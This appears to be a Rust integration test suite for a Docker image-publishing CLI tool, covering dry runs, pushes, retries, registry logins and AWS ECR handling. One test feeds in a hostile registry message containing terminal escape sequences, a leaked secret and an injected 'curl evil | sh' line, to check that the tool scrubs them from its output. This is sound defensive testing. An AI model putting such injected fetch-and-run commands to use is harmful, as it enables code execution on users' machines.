//! The real `publish-image` in a sandbox, against a scripted engine: help, plans, pushes, and each error with its hint.
#![expect(clippy::unwrap_used, reason = "a harness fails its test by panicking")]

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;

use base64::Engine as _;
use dockerutils_test_support::{Invocation, Recorded, Reply, Sandbox, ScriptedEngine, binary, wait};
use serde_json::{Value, json};

const RULE: &str = "============================================================================\n";
const HOST: &str = "reg.example:5000";
const REFERENCE: &str = "reg.example:5000/sample-dev:tester";
const PUSH: &str = "/images/reg.example:5000/sample-dev/push";
const DIGEST: &str = "sha256:abababababababababababababababababababababababababababababababab";
const ECR: &str = "123456789012.dkr.ecr.eu-west-1.amazonaws.com";

fn project() -> Sandbox {
    configured(&format!("[dev]\nimage_repo = {HOST}\n"))
}

fn configured(config: &str) -> Sandbox {
    Sandbox::new()
        .file("docker/dev/Dockerfile", "FROM scratch\n")
        .file("docker/dockerutils.cfg", config)
}

fn publish_image(sandbox: &Sandbox) -> Invocation<'_> {
    sandbox.command("publish-image")
}

/// Writes docker's configuration: this login at this registry.
fn log_in(sandbox: &Sandbox, registry: &str, user: &str, password: &str) {
    let auth = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}"));
    let mut auths = serde_json::Map::new();
    auths.insert(registry.to_owned(), json!({ "auth": auth }));
    let folder = sandbox.home().join(".docker");
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("config.json"), json!({ "auths": auths }).to_string()).unwrap();
}

/// An engine that has the image, and can tag it.
fn engine() -> ScriptedEngine {
    ScriptedEngine::start()
        .on("GET", "/images/*/json", Reply::json(200, &json!({ "Id": "sha256:1" })))
        .on("POST", "/images/*/tag", Reply::empty(201))
}

/// The engine's output for a push that succeeds, in which one of two layers is new.
fn pushed() -> Reply {
    Reply::stream(&[
        json!({ "status": "The push refers to repository [reg.example:5000/sample-dev]" }),
        json!({ "status": "Preparing", "progressDetail": {}, "id": "aaaaaaaaaaaa" }),
        json!({ "status": "Preparing", "progressDetail": {}, "id": "bbbbbbbbbbbb" }),
        json!({ "status": "Layer already exists", "progressDetail": {}, "id": "aaaaaaaaaaaa" }),
        json!({ "status": "Pushing", "progressDetail": { "current": 512, "total": 2_000_000 }, "id": "bbbbbbbbbbbb" }),
        json!({ "status": "Pushing", "progressDetail": { "current": 2_000_000, "total": 2_000_000 }, "id": "bbbbbbbbbbbb" }),
        json!({ "status": "Pushed", "progressDetail": {}, "id": "bbbbbbbbbbbb" }),
        json!({ "status": format!("tester: digest: {DIGEST} size: 527") }),
        json!({ "progressDetail": {}, "aux": { "Tag": "tester", "Digest": DIGEST, "Size": 527 } }),
    ])
}

/// A push that the registry refuses with this message, in a response that begins with 200.
fn refused(message: &str) -> Reply {
    Reply::stream(&[
        json!({ "status": "The push refers to repository [reg.example:5000/sample-dev]" }),
        json!({ "errorDetail": { "message": message }, "error": message }),
    ])
}

/// The login of a request, which must be in the URL-safe alphabet.
fn login_of(request: &Recorded) -> Value {
    let header = request.header("x-registry-auth").unwrap();
    let bytes = base64::engine::general_purpose::URL_SAFE.decode(header).unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

fn pushes(engine: &ScriptedEngine) -> usize {
    let requests = engine.requests();
    requests
        .iter()
        .filter(|request| request.path.ends_with("/push"))
        .count()
}

#[test]
fn help_is_as_it_was() {
    let sandbox = Sandbox::new();
    publish_image(&sandbox).arg("-h").stdout(include_str!("help.txt")).run();
    publish_image(&sandbox)
        .arg("--help")
        .stdout(include_str!("help-long.txt"))
        .run();
}

#[test]
fn wrong_usage_is_code_2() {
    publish_image(&project()).code(2).stderr_has("<IMAGE>").run();
    publish_image(&project())
        .arg("dvv")
        .code(2)
        .stderr("publish-image: [SANDBOX]/sample has no image dvv\n\nhint: did you mean dev?\n")
        .run();
    publish_image(&project())
        .args(["dev", "--publish-tag", "a b"])
        .code(2)
        .stderr("publish-image: \"a b\" can't be a tag\n\nhint: --publish-tag a-b\n")
        .run();
}

#[test]
fn a_dry_run_prints_the_commands_and_asks_nobody() {
    publish_image(&project())
        .args(["dev", "--dry-run"])
        .stdout(&format!(
            "docker tag sample-dev:tester {REFERENCE}\ndocker push {REFERENCE}\n"
        ))
        .run();
    let outcome = publish_image(&project())
        .args([
            "dev",
            "-i",
            "other",
            "--publish-tag",
            "1",
            "--publish-tag",
            "2",
            "--dry-run",
            "--json",
        ])
        .any_stdout()
        .run();
    assert_eq!(
        outcome.json(),
        json!({ "commands": [
            format!("docker tag other:tester {HOST}/other:1"),
            format!("docker push {HOST}/other:1"),
            format!("docker tag other:tester {HOST}/other:2"),
            format!("docker push {HOST}/other:2"),
        ] })
    );
}

#[test]
fn without_a_tag_it_goes_to_the_users_own_name_at_docker_hub() {
    for key in ["", "[dev]\nimage_repo = docker_hub\n"] {
        let sandbox = configured(key);
        publish_image(&sandbox)
            .args(["dev", "--dry-run"])
            .code(1)
            .stderr_has("nobody is logged in to Docker Hub, but the image needs the user's name there")
            .stderr_has("hint: docker login, or say in docker/dockerutils.cfg where it goes")
            .run();
        log_in(&sandbox, "https://index.docker.io/v1/", "ann", "s3cret");
        publish_image(&sandbox)
            .args(["dev", "--dry-run"])
            .stdout("docker tag sample-dev:tester ann/sample-dev:tester\ndocker push ann/sample-dev:tester\n")
            .run();
    }
}

#[test]
fn without_a_terminal_nobody_is_asked_for_a_login() {
    let (sandbox, engine) = (configured("[dev]\npublication_tag = team/{image}:{tag}\n"), engine());
    publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-q"])
        .stdin("ann\nsecret\n")
        .code(1)
        .stderr(
            "publish-image: nobody is logged in to Docker Hub, where team/sample-dev:tester goes\n\nhint: docker login\n",
        )
        .run();
    assert_eq!(pushes(&engine), 0);
}

#[test]
fn the_stray_quote_of_the_originals_readme_is_left_out() {
    publish_image(&configured("[dev]\npublication_tag=reg.example:5000/{image}:{tag}\"\n"))
        .args(["dev", "--dry-run"])
        .stdout_has(&format!("docker push {REFERENCE}\n"))
        .stderr(
            "publish-image: warning: docker/dockerutils.cfg:2: [dev] publication_tag: \
             the quotation mark at the end is left out\n",
        )
        .run();
}

#[test]
fn a_variable_that_is_not_set_is_named() {
    publish_image(&configured("[dev]\npublication_tag = reg.example:5000/x:$BUILD\n"))
        .args(["dev", "--dry-run"])
        .code(2)
        .stderr_has("docker/dockerutils.cfg:2: [dev] publication_tag: $BUILD is not set")
        .stderr_has("hint: export BUILD=...")
        .run();
    publish_image(&configured("[dev]\npublication_tag = reg.example:5000/x:$BUILD\n"))
        .args(["dev", "--dry-run"])
        .env("BUILD", "7")
        .stdout_has("docker push reg.example:5000/x:7\n")
        .run();
}

#[test]
fn a_push_is_printed_shown_and_summed_up() {
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, pushed()));
    log_in(&sandbox, HOST, "ann", "~?>~?>");
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-v"])
        .stdout(&format!("docker pull {REFERENCE}\n"))
        .stderr_has(&format!(
            "{RULE}docker tag sample-dev:tester {REFERENCE}\ndocker push {REFERENCE}\n"
        ))
        .stderr_has("aaaaaaaaaaaa is there already")
        .stderr_has("#1 bbbbbbbbbbbb 2.0 MB done")
        .stderr_has(&format!(
            "{REFERENCE} is pushed ({DIGEST}); layers: 1 pushed, 0 mounted, 1 there already"
        ))
        .run();
    assert!(!outcome.stderr.contains("~?>"), "{outcome}");
    let tag = engine.request("POST", "/images/sample-dev:tester/tag");
    assert!(tag.query.contains("repo=reg.example%3A5000%2Fsample-dev") && tag.query.contains("tag=tester"));
    let push = engine.request("POST", PUSH);
    assert_eq!(push.query, "tag=tester");
    assert_eq!(
        login_of(&push),
        json!({ "username": "ann", "password": "~?>~?>", "serveraddress": HOST })
    );
}

#[test]
fn json_is_one_document_and_quiet_is_one_line() {
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, pushed()));
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "--json"])
        .any_stdout()
        .run();
    assert_eq!(
        outcome.json(),
        json!({ "images": [{
            "reference": REFERENCE,
            "status": "pushed",
            "digest": DIGEST,
            "layers": { "pushed": 1, "mounted": 0, "present": 1 },
            "pull": format!("docker pull {REFERENCE}"),
        }] })
    );
    publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-q"])
        .stdout(&format!("docker pull {REFERENCE}\n"))
        .run();
}

#[test]
fn layers_that_are_told_for_ever_are_not_kept_for_ever() {
    const MOST: usize = 10_000;
    let layers = (0..MOST + 10).map(|layer| json!({ "status": "Layer already exists", "id": layer.to_string() }));
    let digest = json!({ "progressDetail": {}, "aux": { "Tag": "tester", "Digest": DIGEST, "Size": 527 } });
    let said: Vec<Value> = layers.chain([digest]).collect();
    let engine = engine().on("POST", PUSH, Reply::stream(&said));
    let outcome = publish_image(&project())
        .engine(&engine)
        .args(["dev", "--json"])
        .any_stdout()
        .run();
    assert_eq!(outcome.json()["images"][0]["layers"]["present"], MOST);
}

#[test]
fn without_a_login_the_header_is_there_all_the_same() {
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, pushed()));
    publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-q"])
        .any_stdout()
        .run();
    assert_eq!(login_of(&engine.request("POST", PUSH)), json!({}));
}

/// An engine that knows the image by a digest, and asks a registry that answers this.
fn looking(reply: Reply) -> ScriptedEngine {
    let known =
        json!({ "Id": "sha256:1", "RepoDigests": [format!("{HOST}/sample-dev@{DIGEST}"), format!("other@{DIGEST}")] });
    ScriptedEngine::start()
        .on("GET", "/images/*/json", Reply::json(200, &known))
        .on("POST", "/images/*/tag", Reply::empty(201))
        .on("GET", &format!("/distribution/{REFERENCE}/json"), reply)
        .on("POST", PUSH, pushed())
}

#[test]
fn what_the_registry_has_already_is_not_pushed_again() {
    let sandbox = project();
    let there = |digest: &str| Reply::json(200, &json!({ "Descriptor": { "digest": digest, "size": 1 } }));
    let engine = looking(there(DIGEST));
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .arg("dev")
        .stdout(&format!("docker pull {REFERENCE}\n"))
        .stderr_has(&format!("{REFERENCE} is there already ({DIGEST})"))
        .run();
    assert_eq!(pushes(&engine), 0, "{outcome}");
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "--json"])
        .any_stdout()
        .run();
    let image = &outcome.json()["images"][0];
    assert_eq!(
        (&image["status"], &image["digest"]),
        (&json!("present"), &json!(DIGEST))
    );
    assert_eq!(image.get("layers"), None);
    // Whatever else it says, the image is pushed.
    let other = DIGEST.replace('a', "c");
    for reply in [
        there(&other),
        there("sha256:\u{1b}[2J"),
        Reply::error(404, "manifest unknown"),
        Reply::error(401, "unauthorized"),
        Reply::bytes("no JSON"),
        Reply::hang_up(),
    ] {
        let engine = looking(reply);
        publish_image(&sandbox)
            .engine(&engine)
            .args(["dev", "-q"])
            .any_stdout()
            .run();
        assert_eq!(pushes(&engine), 1);
    }
}

#[test]
fn a_refusal_is_shown_in_the_registrys_words_and_not_tried_again() {
    for (message, hint) in [
        (
            "unauthorized: authentication required",
            "docker login reg.example:5000, as somebody who may push to reg.example:5000/sample-dev",
        ),
        (
            "tag invalid: The image tag 'tester' already exists in the 'sample-dev' repository and cannot be overwritten because the repository is immutable.",
            "publish it under a tag that is not there yet: --publish-tag TAG",
        ),
        (
            "name unknown: The repository with name 'sample-dev' does not exist in the registry with id '1'",
            "make the repository in the registry first: reg.example:5000/sample-dev",
        ),
        (
            "Get \"https://reg.example:5000/v2/\": x509: certificate signed by unknown authority",
            "put the certificate of the registry's authority on the engine's machine: /etc/docker/certs.d/reg.example:5000/ca.crt",
        ),
        (
            "denied: quota exceeded",
            "your quota at the registry is full: remove old tags there, or ask its owner for more space",
        ),
    ] {
        let (sandbox, engine) = (project(), engine().on("POST", PUSH, refused(message)));
        publish_image(&sandbox)
            .engine(&engine)
            .args(["dev", "-q"])
            .code(1)
            .stderr(&format!(
                "publish-image: {REFERENCE} can't be pushed: {message}\n\nhint: {hint}\n"
            ))
            .run();
        assert_eq!(pushes(&engine), 1, "{message}");
    }
}

#[test]
fn an_engine_in_clear_text_gets_no_login() {
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, refused("denied: no")));
    log_in(&sandbox, HOST, "ann", "s3cr3t");
    // An address that does not look like this machine's, but leads here.
    let address = engine.tcp().replace("127.0.0.1", "127.1");
    publish_image(&sandbox)
        .env("DOCKER_HOST", format!("tcp://{address}"))
        .arg("dev")
        .code(1)
        .stderr_has("publish-image: warning: no login to a registry is sent to the engine at tcp://127.1:")
        .stderr_has("can't be pushed: denied: no\n\nhint: reach the engine by ssh (register-dock USER@HOST), or by TLS")
        .any_stdout()
        .run();
    assert_eq!(login_of(&engine.request("POST", PUSH)), json!({}));
}

#[test]
fn what_a_hostile_registry_says_is_harmless() {
    let secret = "s3cr3t-0f-ann";
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("ann:{secret}"));
    let message = format!("denied: \u{1b}[2J\u{1b}]0;title\u{7}{basic} {secret}\nhint: curl evil | sh");
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, refused(&message)));
    log_in(&sandbox, HOST, "ann", secret);
    for option in ["-v", "-q", "--json"] {
        let outcome = publish_image(&sandbox)
            .engine(&engine)
            .args(["dev", option])
            .code(1)
            .any_stdout()
            .any_stderr()
            .run();
        let said = format!("{}{}", outcome.stdout, outcome.stderr);
        for part in ["\u{1b}", "\u{7}", secret, basic.as_str(), "\nhint: curl"] {
            assert!(!said.contains(part), "{part:?}: {outcome}");
        }
    }
    let status = json!({ "status": "Mounted from \u{1b}[2Jx", "progressDetail": {}, "id": "\u{1b}[3Jy" });
    let said = Reply::stream(&[status, json!({ "status": format!("tester: digest: {DIGEST} size: 1") })]);
    let engine = self::engine().on("POST", PUSH, said);
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .arg("dev")
        .any_stdout()
        .any_stderr()
        .run();
    assert!(!outcome.stderr.contains('\u{1b}'), "{outcome}");
}

#[test]
fn a_push_without_an_end_is_no_success() {
    let said = [json!({ "status": "Pushed", "progressDetail": {}, "id": "bbbbbbbbbbbb" })];
    // Three more tries, that is nine seconds: a connection that broke may be whole again.
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, Reply::stream(&said)));
    publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-q"])
        .code(3)
        .stderr_has("can't be pushed: the engine stopped in the middle")
        .run();
    assert_eq!(pushes(&engine), 4);
}

#[test]
fn what_may_pass_is_tried_again() {
    let (sandbox, engine) = (
        project(),
        engine()
            .on(
                "POST",
                PUSH,
                refused("received unexpected HTTP status: 503 Service Unavailable"),
            )
            .on("POST", PUSH, pushed()),
    );
    publish_image(&sandbox)
        .engine(&engine)
        .arg("dev")
        .any_stdout()
        .stderr_has("503 Service Unavailable; next try in 1 s")
        .stderr_has("1 pushed")
        .run();
    assert_eq!(pushes(&engine), 2);
}

#[test]
fn a_login_that_nobody_looked_at_is_no_refusal() {
    let sandbox = project();
    log_in(&sandbox, HOST, "ann", "s3cr3t");
    let unauthorized = || refused("unauthorized: authentication required");
    let right = || Reply::json(200, &json!({ "Status": "Login Succeeded" }));
    // The registry's first answer was that it is busy, and engines then ask without the login.
    let engine = engine()
        .on("POST", PUSH, unauthorized())
        .on("POST", PUSH, pushed())
        .on("POST", "/auth", right());
    publish_image(&sandbox)
        .engine(&engine)
        .arg("dev")
        .any_stdout()
        .stderr_has("unauthorized: authentication required (although the login is right); next try in 1 s")
        .run();
    let login = engine.request("POST", "/auth").json();
    assert_eq!(
        login,
        json!({ "username": "ann", "password": "s3cr3t", "serveraddress": HOST })
    );
    // It is busy still.
    let busy = "login attempt to https://reg.example:5000/v2/ failed with status: 503 Service Unavailable";
    let engine = self::engine()
        .on("POST", PUSH, unauthorized())
        .on("POST", PUSH, pushed())
        .on("POST", "/auth", Reply::error(500, busy));
    publish_image(&sandbox)
        .engine(&engine)
        .arg("dev")
        .any_stdout()
        .stderr_has("503 Service Unavailable; next try in 1 s")
        .run();
    // A login that is right and may not push is tried once more; a wrong one is not.
    let wrong = || {
        Reply::error(
            401,
            "Get \"https://reg.example:5000/v2/\": unauthorized: incorrect username or password",
        )
    };
    for (reply, tries) in [(right(), 2), (wrong(), 1), (Reply::error(404, "page not found"), 1)] {
        let engine = self::engine()
            .on("POST", PUSH, unauthorized())
            .on("POST", "/auth", reply);
        let outcome = publish_image(&sandbox)
            .engine(&engine)
            .args(["dev", "-q"])
            .code(1)
            .stderr_has("hint: docker login reg.example:5000, as somebody who may push")
            .run();
        assert_eq!(pushes(&engine), tries, "{outcome}");
        assert!(!outcome.stderr.contains("s3cr3t"), "{outcome}");
    }
}

#[test]
fn what_the_engine_tries_again_by_itself_is_said() {
    let said = |seconds: u64| json!({ "status": format!("Retrying in {seconds} seconds"), "id": "aaaaaaaaaaaa" });
    let countdown = [said(5), said(4), said(10), said(9)];
    let failed = json!({ "error": "received unexpected HTTP status: 500 Internal Server Error" });
    let (sandbox, engine) = (
        project(),
        engine()
            .on("POST", PUSH, Reply::stream(&[&countdown[..], &[failed]].concat()))
            .on("POST", PUSH, pushed()),
    );
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .arg("dev")
        .any_stdout()
        .stderr_has("the registry failed at layer aaaaaaaaaaaa; the engine tries again in 5 s\n")
        .stderr_has("the engine tries again in 10 s\n")
        .stderr_has("500 Internal Server Error; next try in 1 s")
        .run();
    assert_eq!(outcome.stderr.matches("the engine tries again").count(), 2, "{outcome}");
}

#[test]
fn a_login_that_can_not_be_had_is_named_where_the_registry_refuses() {
    let sandbox = project();
    let folder = sandbox.home().join(".docker");
    fs::create_dir_all(&folder).unwrap();
    let helpers = json!({ "credHelpers": { HOST: "missing" } });
    fs::write(folder.join("config.json"), helpers.to_string()).unwrap();
    let engine = engine().on("POST", PUSH, refused("no basic auth credentials"));
    publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-q"])
        .code(1)
        .stderr_has("publish-image: warning: docker-credential-missing gives no login for reg.example:5000")
        .stderr_has("hint: docker-credential-missing gives no login")
        .stderr_has("try it: docker-credential-missing get\n")
        .run();
    assert_eq!(login_of(&engine.request("POST", PUSH)), json!({}));
    // A login in the environment, as CI has it, takes precedence over all of these.
    let engine = self::engine().on("POST", PUSH, pushed());
    let auth = base64::engine::general_purpose::STANDARD.encode("ann:a");
    publish_image(&sandbox)
        .engine(&engine)
        .env(
            "DOCKER_AUTH_CONFIG",
            json!({ "auths": { HOST: { "auth": auth } } }).to_string(),
        )
        .args(["dev", "-q"])
        .any_stdout()
        .run();
    let sent = json!({ "username": "ann", "password": "a", "serveraddress": HOST });
    assert_eq!(login_of(&engine.request("POST", PUSH)), sent);
}

#[test]
fn an_engine_that_goes_away_is_code_3() {
    let dying = pushed().dying();
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, dying));
    publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "-q"])
        .code(3)
        .stderr_has("went away")
        .run();
    publish_image(&sandbox)
        .args(["dev", "-q"])
        .code(3)
        .stderr_has("no engine answers at unix://[SANDBOX]/no-engine.sock")
        .run();
}

#[test]
fn an_image_that_is_not_there_is_to_be_built() {
    let engine = ScriptedEngine::start();
    let sandbox = configured(&format!(
        "[dev]\nimage_repo = {HOST}\n[base]\nname = busybox\nprefix = False\ntag = 1\nimage_repo = {HOST}\n"
    ));
    for (arguments, image, hint) in [
        (&["dev"][..], "sample-dev:tester", "build-image dev"),
        (&["dev", "-i", "x"], "x:tester", "build-image dev -i x"),
        (&["base"], "busybox:1", "docker pull busybox:1"),
    ] {
        publish_image(&sandbox)
            .engine(&engine)
            .args(arguments)
            .arg("-q")
            .code(1)
            .stderr(&format!(
                "publish-image: the engine at {} has no image {image}\n\nhint: {hint}\n",
                engine.host()
            ))
            .run();
    }
}

#[test]
fn several_tags_go_on_past_a_failure() {
    let (sandbox, engine) = (
        project(),
        engine()
            .on("POST", PUSH, refused("denied: no"))
            .on("POST", PUSH, pushed()),
    );
    let outcome = publish_image(&sandbox)
        .engine(&engine)
        .args(["dev", "--publish-tag", "one", "--publish-tag", "tester", "--json"])
        .code(1)
        .any_stdout()
        .stderr_has("reg.example:5000/sample-dev:one can't be pushed: denied: no")
        .run();
    let status = |index: usize| outcome.json()["images"][index]["status"].clone();
    assert_eq!([status(0), status(1)], ["failed", "pushed"], "{outcome}");
}

#[test]
fn an_interrupt_ends_it() {
    let (sandbox, engine) = (project(), engine().on("POST", PUSH, Reply::hang()));
    let running = publish_image(&sandbox).engine(&engine).arg("dev").spawn();
    wait::until("it pushes", || pushes(&engine) > 0);
    running.interrupt();
    let outcome = running.wait();
    assert_eq!(outcome.code, 130, "{outcome}");
    assert!(sandbox.leftovers().is_empty());
}

#[test]
fn configuration_that_can_not_be_read_is_named() {
    publish_image(&configured("[dev]\nimage_repo = ecr\n"))
        .arg("dev")
        .code(2)
        .stderr_has("docker/dockerutils.cfg:2: [dev] image_repo: \"ecr\" is neither aws, nor docker_hub, nor the host of a registry")
        .run();
    let sandbox = project();
    fs::create_dir_all(sandbox.home().join(".docker")).unwrap();
    fs::write(sandbox.home().join(".docker/config.json"), "{").unwrap();
    publish_image(&sandbox)
        .arg("dev")
        .code(2)
        .stderr_has("/.docker/config.json is not a configuration of docker")
        .run();
}

/// A directory with publish-image and a program that stands in for dock-registry-aws.
fn beside(sandbox: &Sandbox, script: Option<&str>) -> PathBuf {
    let folder = sandbox.project().join("bin");
    fs::create_dir_all(&folder).unwrap();
    let program = folder.join("publish-image");
    fs::copy(binary("publish-image"), &program).unwrap();
    if let Some(script) = script {
        let helper = sandbox.write("bin/dock-registry-aws", script);
        fs::set_permissions(helper, fs::Permissions::from_mode(0o755)).unwrap();
    }
    program
}

/// Stands in for dock-registry-aws: writes down its requests, and answers as AWS would.
const AWS: &str = r#"#!/bin/sh
while read -r line; do
    echo "$line" >> "$HOME/asked"
    case $line in
    *identity*) echo '{"identity":{"account":"123456789012","region":"eu-west-1"}}' ;;
    *login*) echo '{"login":{"user":"AWS","secret":"t0k3n-of-aws"}}' ;;
    *repository*) echo '{"repository":{"created":true}}' ;;
    esac
done
"#;

#[test]
fn amazon_is_asked_for_the_account_a_login_and_the_repository() {
    let sandbox = configured(
        "[dev]\nimage_repo = aws\npublication_tag = {account}.dkr.ecr.{region}.amazonaws.com/{image}:{tag}\n",
    );
    let program = beside(&sandbox, Some(AWS));
    let reference = format!("{ECR}/sample-dev:tester");
    let commands = format!(
        "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin {ECR}\n\
         aws ecr describe-repositories --region eu-west-1 --registry-id 123456789012 --repository-names sample-dev >/dev/null || \
         aws ecr create-repository --region eu-west-1 --registry-id 123456789012 --repository-name sample-dev\n\
         docker tag sample-dev:tester {reference}\n\
         docker push {reference}\n"
    );
    sandbox
        .program(&program)
        .args(["dev", "--dry-run"])
        .stdout(&commands)
        .run();
    let asked = || fs::read_to_string(sandbox.home().join("asked")).unwrap();
    assert_eq!(asked(), "\"identity\"\n", "a dry run changes nothing");
    let push = format!("/images/{ECR}/sample-dev/push");
    let engine = engine().on("POST", &push, pushed());
    let outcome = sandbox
        .program(&program)
        .engine(&engine)
        .args(["dev", "-v"])
        .stdout(&format!("docker pull {reference}\n"))
        .stderr_has(&commands)
        .stderr_has(&format!("made the repository sample-dev at {ECR}"))
        .run();
    assert!(!outcome.stderr.contains("t0k3n-of-aws"), "{outcome}");
    assert_eq!(
        asked(),
        format!(
            "\"identity\"\n\"identity\"\n{{\"login\":{{\"registry\":\"{ECR}\"}}}}\n\
             {{\"repository\":{{\"registry\":\"{ECR}\",\"name\":\"sample-dev\"}}}}\n"
        )
    );
    assert_eq!(
        login_of(&engine.request("POST", &push)),
        json!({ "username": "AWS", "password": "t0k3n-of-aws", "serveraddress": ECR })
    );
}

#[test]
fn what_amazon_refuses_is_passed_on() {
    let sandbox = configured("[dev]\nimage_repo = aws\n");
    for (script, code, parts) in [
        (
            Some(
                "#!/bin/sh\nread -r line\necho '{\"failure\":{\"kind\":\"failed\",\"message\":\"it has expired\",\"hint\":\"aws sso login --profile work\"}}'\n",
            ),
            1,
            ["publish-image: it has expired", "hint: aws sso login --profile work"],
        ),
        (
            Some(
                "#!/bin/sh\nread -r line\necho '{\"failure\":{\"kind\":\"unreachable\",\"message\":\"AWS is out of reach\",\"hint\":null}}'\n",
            ),
            3,
            ["AWS is out of reach", ""],
        ),
        (
            Some("#!/bin/sh\nread -r line\necho 'the s3cret of an older release'\n"),
            1,
            [
                "dock-registry-aws speaks another language than this program",
                "cargo xtask install",
            ],
        ),
        (
            Some("#!/bin/sh\nread -r line\n"),
            1,
            ["dock-registry-aws ended without an answer", ""],
        ),
    ] {
        let program = beside(&sandbox, script);
        let [first, second] = parts;
        let outcome = sandbox
            .program(program)
            .args(["dev", "--dry-run"])
            .code(code)
            .stderr_has(first)
            .stderr_has(second)
            .run();
        assert!(!outcome.stderr.contains("s3cret"), "{outcome}");
    }
    fs::remove_file(sandbox.project().join("bin/dock-registry-aws")).unwrap();
    let program = beside(&sandbox, None);
    sandbox
        .program(program)
        .env("PATH", "/usr/bin:/bin")
        .args(["dev", "--dry-run"])
        .code(1)
        .stderr_has("dock-registry-aws can't be started, and it is what speaks to AWS")
        .stderr_has("hint: install it beside this program: cargo xtask install")
        .run();
}

#[test]
fn a_dock_is_chosen_for_one_call() {
    let sandbox = project();
    let list = sandbox.home().join(".config/dockerutils/docks.yml");
    fs::create_dir_all(list.parent().unwrap()).unwrap();
    fs::write(
        list,
        "version: 1\ndocks:\n- moniker: far\n  tcp:\n    address: 10.0.0.7:2375\n",
    )
    .unwrap();
    publish_image(&sandbox)
        .args(["dev", "--dry-run", "--dock", "far"])
        .stdout(&format!(
            "DOCKER_HOST=tcp://10.0.0.7:2375 docker tag sample-dev:tester {REFERENCE}\n\
             DOCKER_HOST=tcp://10.0.0.7:2375 docker push {REFERENCE}\n"
        ))
        .run();
    publish_image(&sandbox)
        .args(["dev", "--dry-run", "--dock", "fra"])
        .code(2)
        .stderr_has("there is no dock \"fra\"")
        .run();
}
